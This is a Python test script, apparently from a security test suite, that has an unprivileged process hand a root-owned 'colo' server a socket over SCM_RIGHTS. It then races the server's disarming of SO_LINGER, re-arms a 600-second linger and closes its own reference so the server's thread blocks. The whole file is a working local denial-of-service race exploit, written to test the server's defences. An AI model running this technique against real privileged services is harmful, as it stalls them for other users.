"""Run as nobody by t_rt_rearm_gift.sh: hands root's colo server, in a HELLO's segment slot, a
TCP socket whose close would wait (bytes queued to a peer this process keeps and never reads),
keeps its own reference to it, and races the server: as soon as the server has turned the
socket's lingering off (colo_sys::gift::disarm, Go's disarm), it turns it back on through its
own reference (SO_LINGER is the socket's, shared by every reference) and closes that reference.
The server's close is then the last, and waits for the linger, in the thread that dropped it.
Prints "TRIES <n> SEEN <s> WON <k>" (seen: the server's disarm was seen within 0.5 s; a win:
our close returned at once, so the server still held the socket, lingering on), then holds the
peers (never reading) until LEAVE or HOLD seconds.
Usage: rearm_gift.py PORT WINS TRIES HOLD"""
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import colo_attack as ca  # noqa: E402
import doorbell_attacker as da  # noqa: E402

port, want, tries, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
LINGER = 600
ON = struct.pack("ii", 1, LINGER)
ca.raise_nofile()
won, done, seen_n, keep = 0, 0, 0, []


def drain(peer):
    """Lets a close that waits on `peer`'s unread bytes finish (we lost: our close was the last)."""
    peer.setblocking(True)
    try:
        while peer.recv(65536):
            pass
    except OSError:
        pass


while won < want and done < tries:
    done += 1
    held = []
    t = da.lingering(held, LINGER)
    peer = held[1]
    closing, closed, lost = threading.Event(), threading.Event(), [False]

    def watchdog(peer=peer, closing=closing, closed=closed, lost=lost):
        """Started before the race: a close of ours that has not returned after 0.2 s was the
        last (the server had closed first); draining the peer lets it finish."""
        closing.wait()
        if not closed.wait(0.2):
            lost[0] = True
            drain(peer)

    watch = threading.Thread(target=watchdog, daemon=True)
    watch.start()
    try:
        ctl = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        ctl.connect(b"\0colo/1/127.0.0.1:%d" % port)
        ctl.sendmsg([ca.message(ca.HELLO, ca.CARRIER)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", t.fileno()))])
    except OSError:
        t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
        closing.set()
        t.close()
        closed.set()
        for s in held:
            s.close()
        time.sleep(0.01)
        continue
    # Wait for the server's disarm (l_onoff 0), then arm again at once and let go of ours.
    end = time.monotonic() + 0.5
    gso = t.getsockopt
    while time.monotonic() < end:
        if gso(socket.SOL_SOCKET, socket.SO_LINGER, 8)[0] == 0:
            seen_n += 1
            break
    t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, ON)
    closing.set()
    t.close()
    closed.set()
    watch.join()
    if lost[0]:
        for s in held:
            s.close()
    else:
        won += 1
        keep.append(held)  # the server's close waits for this peer, which never reads
    ctl.close()
print("TRIES %d SEEN %d WON %d" % (done, seen_n, won), flush=True)
ca.hold(hold)
